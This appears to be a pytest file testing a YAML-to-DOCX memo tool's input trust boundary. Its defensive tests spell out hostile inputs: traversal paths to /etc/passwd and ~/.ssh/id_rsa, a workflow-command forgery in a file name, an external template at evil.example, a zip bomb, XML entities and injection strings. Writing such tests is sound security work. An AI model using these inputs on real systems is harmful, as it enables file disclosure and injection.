"""The trust boundary for pull-request input: nothing a fact base names can read, inject or
stall beyond its repository, and one bad file never stops the batch."""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import pytest
from conftest import CASES, EXAMPLE, ROOT, memo_files, run_cli
from lxml import etree

MINIMAL = (CASES / "minimal.yaml").read_text("utf-8")
SECRET = "ghp_0123456789abcdefSECRET"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository of fact bases (it has a .git folder) with a secrets file beside it."""
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (root / "data").mkdir()
    (tmp_path / "secrets.yaml").write_text(f"page: {SECRET}\ntoken: {SECRET}\n", "utf-8")
    return root


def fact_base(repo: Path, name: str = "memo.yaml", extra: str = "") -> Path:
    path = repo / "data" / name
    path.write_text(extra + MINIMAL, "utf-8")
    return path


@pytest.mark.parametrize(
    ("style", "message"),
    [
        ("../../secrets.yaml", "'../../secrets.yaml' leads outside the repository"),
        ("/etc/passwd", "'/etc/passwd' is an absolute path; name a file inside the repository"),
        ("~/.ssh/id_rsa", "'~/.ssh/id_rsa' is an absolute path"),
        ("link.yaml", "'link.yaml' leads outside the repository"),
    ],
)
def test_a_style_outside_the_repository_is_refused_unread(
    repo: Path, style: str, message: str
) -> None:
    (repo / "data" / "link.yaml").symlink_to(repo.parent / "secrets.yaml")
    src = fact_base(repo, extra=f"style: {style}\n")
    for command in (["validate"], ["build", "--out", str(repo / "out")]):
        result = run_cli(*command, str(src))
        assert result.returncode == 2
        assert f"{src}:1:8: style: {message}" in result.stderr
        assert SECRET not in result.stderr + result.stdout
    assert memo_files(repo / "out") == []


def test_root_can_be_given(repo: Path) -> None:
    shared = repo.parent / "shared.style.yaml"
    shared.write_text("bullet: '-'\n", "utf-8")
    src = fact_base(repo, extra="style: ../../shared.style.yaml\n")
    assert run_cli("validate", str(src)).returncode == 2
    result = run_cli("validate", str(src), "--root", str(repo.parent))
    assert result.returncode == 0, result.stderr


def test_a_style_file_s_values_are_never_quoted(repo: Path) -> None:
    (repo / "data" / "leak.style.yaml").write_text(f"page: {SECRET}\nbullet: {SECRET}\n", "utf-8")
    src = fact_base(repo, extra="style: leak.style.yaml\n")
    result = run_cli("validate", str(src))
    assert result.returncode == 2
    assert "page: expected a mapping of fields" in result.stderr
    assert SECRET not in result.stderr


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("../../../../etc/hostname", "leads outside the repository"),
        ("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf", "is an absolute path"),
    ],
)
def test_font_paths_stay_in_the_repository(repo: Path, path: str, message: str) -> None:
    (repo / "data" / "f.style.yaml").write_text(
        f"fonts:\n  sans:\n    files:\n      regular: {path}\n", "utf-8"
    )
    src = fact_base(repo, extra="style: f.style.yaml\n")
    result = run_cli("validate", str(src))
    assert result.returncode == 2
    assert f"fonts.sans.files.regular: '{path}' {message}" in result.stderr


def test_a_fonts_folder_linked_out_of_its_root_is_not_searched(tmp_path: Path) -> None:
    from reports.style import _index

    (tmp_path / "work").mkdir()
    (tmp_path / "work" / "fonts").symlink_to("/usr/share")
    assert _index(tmp_path / "work" / "fonts", tmp_path / "work") == {}
    # and a search is bounded in depth and count even where it is allowed
    assert len(_index(Path("/usr/share"), None)) <= 20_000


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\x00\x01\x00\x00" + b"\x00" * 40, "is not a usable TrueType font"),
        (b"OTTO" + b"\x00" * 40, "is not a TrueType (.ttf) font"),
    ],
)
def test_a_broken_font_is_one_line_and_the_batch_goes_on(
    repo: Path, content: bytes, message: str
) -> None:
    (repo / "data" / "Broken.ttf").write_bytes(content)
    (repo / "data" / "f.style.yaml").write_text(
        "fonts:\n  sans:\n    files:\n      regular: ./Broken.ttf\n", "utf-8"
    )
    bad = fact_base(repo, "bad.yaml", extra="style: f.style.yaml\n")
    good = fact_base(repo, "good.yaml")
    result = run_cli("build", str(bad), str(good), "--out", str(repo / "out"))
    assert result.returncode == 2
    assert "fonts.sans.files.regular: Broken.ttf " + message in result.stderr
    assert [p.name for p in memo_files(repo / "out")] == ["good.docx", "good.pdf"]


def test_a_huge_file_with_a_truetype_header_is_refused_unread(repo: Path) -> None:
    big = repo / "data" / "Big.ttf"
    with big.open("wb") as fh:
        fh.write(b"\x00\x01\x00\x00")
        fh.truncate(500 * 1024 * 1024)  # sparse: takes no disk space
    (repo / "data" / "f.style.yaml").write_text(
        "fonts:\n  sans:\n    files:\n      regular: ./Big.ttf\n", "utf-8"
    )
    result = run_cli("validate", str(fact_base(repo, extra="style: f.style.yaml\n")))
    assert result.returncode == 2
    assert "Big.ttf is 524,288,000 bytes, over the limit of 67,108,864 for a font" in (
        result.stderr
    )


def test_a_long_chain_of_parent_styles_is_refused_with_its_depth(repo: Path) -> None:
    lines = ["styles:", "  s0: {parent: body}"]
    lines += [f"  s{i}: {{parent: s{i - 1}}}" for i in range(1, 8000)]
    (repo / "data" / "deep.style.yaml").write_text("\n".join(lines) + "\n", "utf-8")
    result = run_cli("validate", str(fact_base(repo, extra="style: deep.style.yaml\n")))
    assert result.returncode == 2
    assert "styles.s40: more than 32 styles in its chain of parents" in result.stderr


# ---------------------------------------------------------------- names and logs


def test_a_file_name_that_is_not_utf8_is_skipped_and_the_rest_built(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    shutil.copy(CASES / "minimal.yaml", data / "good.yaml")
    shutil.copy(CASES / "minimal.yaml", os.fsdecode(bytes(data) + b"/bad\xff.yaml"))
    out = tmp_path / "out"
    result = run_cli("build", str(data), "--out", str(out))
    assert result.returncode == 2
    assert f"{data}/bad\\xff.yaml: the file name is not valid UTF-8; rename the file" in (
        result.stderr
    )
    assert [p.name for p in memo_files(out)] == ["good.docx", "good.pdf"]
    manifest = json.loads((out / "manifest.json").read_text("utf-8"))
    assert [m["status"] for m in manifest["memos"]] == ["failed", "built"]


def test_file_names_cannot_forge_workflow_commands(tmp_path: Path) -> None:
    evil = tmp_path / "x\n::error file=app.js,line=1::owned\n.yaml"
    evil.write_text("not: [valid\n", "utf-8")
    result = run_cli("validate", str(evil), env={"GITHUB_ACTIONS": "true"})
    assert result.returncode == 2
    text, annotation = result.stderr.splitlines()
    assert "x\\n::error file=app.js,line=1::owned\\n.yaml:1:" in text
    # the only command is ours: the file name's commas and colons are escaped in it
    assert annotation.startswith(
        f"::error file={tmp_path}/x\\n%3A%3Aerror file=app.js%2Cline=1%3A%3Aowned\\n.yaml,"
        "line=1,col="
    )
    assert annotation.count("::") == 2
    for name, shown in [
        ("::warning::hello.yaml", "\\x3a:warning::hello.yaml:1:"),
        # the runner trims leading white space before it looks for '::'
        ("  ::warning::hello.yaml", "  \\x3a:warning::hello.yaml:1:"),
        # and reads the legacy '##[command]' anywhere in a line
        ("a ##[add-mask]b.yaml", "a ##\\x5badd-mask]b.yaml:1:"),
    ]:
        (tmp_path / name).write_text("not: [valid\n", "utf-8")
        result = run_cli(
            "validate", name, "--annotations", "none", cwd=tmp_path, env={"GITHUB_ACTIONS": "true"}
        )
        assert result.stderr.startswith(shown)
        assert len(result.stderr.splitlines()) == 1


def test_a_tampered_manifest_is_replaced_with_a_warning(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    for tampered in ("[" * 100_000, '{"memos": 5}', '{"memos": [1, {"source": 2}]}', "\x00"):
        (out / "manifest.json").write_text(tampered, "utf-8")
        result = run_cli("build", str(CASES / "minimal.yaml"), "--out", str(out))
        assert result.returncode == 0, result.stderr
        assert "manifest.json: the previous manifest could not be read and was replaced" in (
            result.stderr
        )
        manifest = json.loads((out / "manifest.json").read_text("utf-8"))
        assert [m["status"] for m in manifest["memos"]] == ["built"]


def test_python_m_reports_runs_no_code_from_the_working_folder(tmp_path: Path) -> None:
    for module in ("yaml", "reportlab_settings", "click", "jinja2"):
        (tmp_path / f"{module}.py").write_text(
            "import sys; sys.stderr.write('PLANTED CODE RAN\\n'); sys.exit(99)\n", "utf-8"
        )
    shutil.copy(CASES / "minimal.yaml", tmp_path / "memo.yaml")
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    result = subprocess.run(
        [sys.executable, "-m", "reports", "build", "memo.yaml", "--out", "out"],
        cwd=tmp_path, capture_output=True, text=True, env=env, timeout=120,
    )  # fmt: skip
    assert "PLANTED CODE RAN" not in result.stderr
    assert result.returncode == 0, result.stderr


# ---------------------------------------------------------------- reference documents


def _reference(tmp_path: Path) -> Path:
    """A Word document with content a memo must not take over."""
    word = docx.Document()
    word.add_paragraph("BODY SECRET")
    word.add_table(rows=1, cols=1).cell(0, 0).text = "TABLE SECRET"
    word.sections[0].header.paragraphs[0].text = "HEADER SECRET"
    word.sections[0].footer.paragraphs[0].text = "FOOTER SECRET"
    path = tmp_path / "ref.docx"
    word.save(str(path))
    # an external template and a content control, as a ministry template may carry
    with zipfile.ZipFile(path) as src:
        parts = {n: src.read(n) for n in src.namelist()}
    assert "word/_rels/settings.xml.rels" not in parts
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
        b'//schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    with zipfile.ZipFile(path, "w") as dst:
        for name, data in parts.items():
            dst.writestr(name, data)
    return path


def test_a_reference_document_gives_styles_and_nothing_else(tmp_path: Path) -> None:
    ref = _reference(tmp_path)
    out = tmp_path / "out"
    result = run_cli("build", str(EXAMPLE), "-f", "docx", "--reference-docx", str(ref),
                     "--out", str(out))  # fmt: skip
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(out / f"{EXAMPLE.stem}.docx") as package:
        everything = b"".join(package.read(n) for n in package.namelist())
        names = package.namelist()
    assert b"SECRET" not in everything
    assert b"evil.example" not in everything
    assert not [n for n in names if "settings.xml.rels" in n]


@pytest.mark.parametrize(
    ("make", "message"),
    [
        ("bomb", "the part word/styles.xml is 104,857,600 bytes once unpacked, over the limit"),
        ("entities", "the part word/styles.xml declares a DTD or entities"),
        ("broken", "the part word/styles.xml is not well-formed XML"),
        ("no-main", "it has no main document part"),
    ],
)
def test_a_hostile_reference_document_is_one_clear_line(
    tmp_path: Path, make: str, message: str
) -> None:
    with zipfile.ZipFile(io.BytesIO(_default_docx())) as src:
        parts = {n: src.read(n) for n in src.namelist()}
    if make == "bomb":
        parts["word/styles.xml"] = b"<a>" + b" " * (100 * 1024 * 1024 - 7) + b"</a>"
    elif make == "entities":
        parts["word/styles.xml"] = (
            b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "xxxxxxxx">]><a>&x;&x;</a>'
        )
    elif make == "broken":
        parts["word/styles.xml"] = b"<w:styles><unclosed>"
    else:
        parts["_rels/.rels"] = (
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"/>'
        )
    ref = tmp_path / "hostile.docx"
    with zipfile.ZipFile(ref, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in parts.items():
            dst.writestr(name, data)
    result = run_cli("build", str(CASES / "minimal.yaml"), "--reference-docx", str(ref),
                     "--out", str(tmp_path / "out"))  # fmt: skip
    assert result.returncode == 2
    assert result.stderr.startswith(f"reports: reference document {ref} cannot be used: {message}")
    assert len(result.stderr.splitlines()) == 1


def _default_docx() -> bytes:
    buf = io.BytesIO()
    docx.Document().save(buf)
    return buf.getvalue()


# ---------------------------------------------------------------- text reaching the DOCX

HOSTILE = [
    '"/><w:t>INJECTED</w:t>',
    "]]><w:t>INJECTED</w:t><![CDATA[",
    "&amp;&lt;&#0;",
    'A"/></v:shape></w:pict><w:t>INJECTED</w:t><w:pict><v:shape><v:textpath style="',
    "'; x: url(javascript:alert(1)); '",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_style_and_catalogue_strings_stay_inert_in_every_part(tmp_path: Path, text: str) -> None:
    folder = tmp_path / "tpl"
    assert run_cli("template", str(folder)).returncode == 0
    catalogue = folder / "messages" / "en.yaml"
    quoted = json.dumps(text)  # a JSON string is a YAML double-quoted scalar
    body = catalogue.read_text("utf-8")
    for key in ("draft", "page_label", "summary", "col_date", "question_label", "owner"):
        body = body.replace(f"\n{key}: ", f"\n{key}: {quoted} #", 1)
    catalogue.write_text(body, "utf-8")
    style = tmp_path / "s.yaml"
    style.write_text(f"fonts:\n  sans: {{docx: {quoted}}}\nbullet: '*'\n", "utf-8")
    result = run_cli("build", str(EXAMPLE), "-t", str(folder), "-s", str(style), "--draft",
                     "--out", str(tmp_path / "out"))  # fmt: skip
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(tmp_path / "out" / f"{EXAMPLE.stem}.docx") as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                root = etree.fromstring(package.read(name))
                assert not any(
                    el.tag.endswith("}t") and el.text == "INJECTED" for el in root.iter()
                ), name
